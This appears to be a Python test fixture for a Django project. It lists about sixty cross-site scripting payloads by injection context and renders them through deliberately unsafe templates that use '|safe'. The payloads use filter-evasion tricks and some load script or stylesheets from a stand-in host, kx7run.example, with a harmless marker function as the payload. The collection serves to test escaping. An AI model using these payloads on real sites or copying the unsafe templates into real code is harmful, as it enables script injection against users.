"""Sixty texts that would run a script where a page is careless, each with the place in which it bites.

Whatever runs carries the word `kx7run`; a template that evaluates one shows `kx7evaluated`, which stands in no payload.
"""

from __future__ import annotations

import html
from dataclasses import dataclass
from urllib.parse import unquote

from django.template import Context, Engine

MARK = "kx7run"
EVALUATED = "kx7evaluated"


@dataclass(frozen=True, slots=True)
class Payload:
    """A text and the place (`SLOPPY`) that it breaks out of."""

    place: str
    text: str


SLOPPY = {
    "text": "<p>{{ x|safe }}</p>",
    "double": '<input type="text" value="{{ x|safe }}">',
    "single": "<input type='text' value='{{ x|safe }}'>",
    "bare": "<input type=text value={{ x|safe }}>",
    "url": '<a href="{{ x }}">maju</a>',
    "form": '<form action="{{ x }}"><button>kirim</button></form>',
    "script": '<script>const said = "{{ x|safe }}";</script>',
    "json": '<script type="application/json">{"said": "{{ x|safe }}"}</script>',
    "style": "<style>p { color: {{ x|safe }} }</style>",
    "style-attribute": '<p style="color: {{ x }}">a</p>',
    "comment": "<!-- {{ x|safe }} --><p>a</p>",
    "textarea": "<textarea>{{ x|safe }}</textarea>",
    "title": "<title>{{ x|safe }}</title>",
    "tag": "<{{ x|safe }}>a</p>",
}
"""How a careless template would write a text, by place."""

_IN: dict[str, tuple[str, ...]] = {
    "text": (
        "<script>kx7run()</script>",
        "<ScRiPt >kx7run()</sCrIpT>",
        "<script src=//kx7run.example/a.js></script>",
        "<img src=x onerror=kx7run()>",
        '<img src="x" alt="kx7run" onerror="kx7run()"',
        "<svg onload=kx7run()>",
        "<svg><script>kx7run()</script></svg>",
        '<svg><a xlink:href="javascript:kx7run()"><text y=20>a</text></a></svg>',
        '<svg><animate onbegin="kx7run()" attributeName=x dur=1s>',
        "<svg/onload=&#107;x7run()>",
        '<math><mtext><style><img src onerror="kx7run()"></style></mtext></math>',
        "<details open ontoggle=kx7run()>",
        "<input autofocus onfocus=kx7run()>",
        '<iframe srcdoc="<script>parent.kx7run()</script>"></iframe>',
        '<iframe src="javascript:parent.kx7run()"></iframe>',
        '<object data="javascript:kx7run()"></object>',
        '<meta http-equiv="refresh" content="0;url=javascript:kx7run()">',
        '<base href="//kx7run.example/">',
        '<link rel="stylesheet" href="//kx7run.example/a.css">',
        '<form action="javascript:kx7run()"><button>a</button></form>',
        '<button form="isi" formaction="javascript:kx7run()">a</button>',
        '<a href="java&#9;script:kx7run()">a</a>',
        '<b id="kx7run">a</b>',
        "<kx7run-tag tabindex=1 onfocus=kx7run()>",
        "<video><source onerror=kx7run()></video>",
    ),
    "double": (
        '" autofocus onfocus="kx7run()',
        '"><script>kx7run()</script>',
        '\t"\nonanimationstart=kx7run()//',
    ),
    "single": ("' autofocus onfocus='kx7run()", "'><img src=x onerror=kx7run()>"),
    "bare": ("x onfocus=kx7run() autofocus", "x\nonfocus=kx7run()\nautofocus"),
    "url": (
        "javascript:kx7run()",
        " \x01javascript:kx7run()",
        "JaVa\tScRiPt:kx7run()",
        "vbscript:kx7run()",
        "data:text/html,<script>kx7run()</script>",
        "//kx7run.example/",
        "/\\kx7run.example/",
    ),
    "form": ("javascript:kx7run();//",),
    "script": ('";kx7run();//', "</script><script>kx7run()</script>", '\\";kx7run();//'),
    "json": ('"}</script><svg onload=kx7run()>',),
    "style": ("red} @import url(//kx7run.example/a.css); p {", "</style><img src=x onerror=kx7run()>"),
    "style-attribute": ("red; background: url(//kx7run.example/a.png)",),
    "comment": ("--><img src=x onerror=kx7run()>",),
    "textarea": ("</textarea><svg onload=kx7run()>",),
    "title": ("</title><svg onload=kx7run()>",),
    "tag": ("img src=x onerror=kx7run()",),
    "template": ('{{ "kx7"|add:"evaluated" }}<b id="kx7run">', '{% firstof "kx7"|add:"evaluated" %}<b id="kx7run">'),
    "twice": (
        "&lt;img src=x onerror=kx7run()&gt;",
        "&#60;svg onload=kx7run()&#62;",
        "&amp;lt;script&amp;gt;kx7run()&amp;lt;/script&amp;gt;",
        "%3Cscript%3Ekx7run()%3C/script%3E",
        "%253Csvg%20onload=kx7run()%253E",
    ),
    "utf-7": ("+ADw-script+AD4-kx7run()+ADw-/script+AD4-",),
    "wide": ("\uff1cscript\uff1ekx7run()\uff1c/script\uff1e",),
}
PAYLOADS = tuple(Payload(place, text) for place, texts in _IN.items() for text in texts)


def carelessly_shown(payload: Payload) -> str:
    """Return the page that a careless house would make of a payload in the place where it bites."""
    text, place = payload.text, payload.place
    if place == "template":
        return Engine().from_string(text).render(Context({}))
    if place == "twice":
        for _ in range(3):
            text = unquote(html.unescape(text))
    elif place == "utf-7":
        text = text.encode().decode("utf-7")
    elif place == "wide":
        text = text.translate({0xFF1C: "<", 0xFF1E: ">"})
    return Engine().from_string(SLOPPY.get(place, SLOPPY["text"])).render(Context({"x": text}))
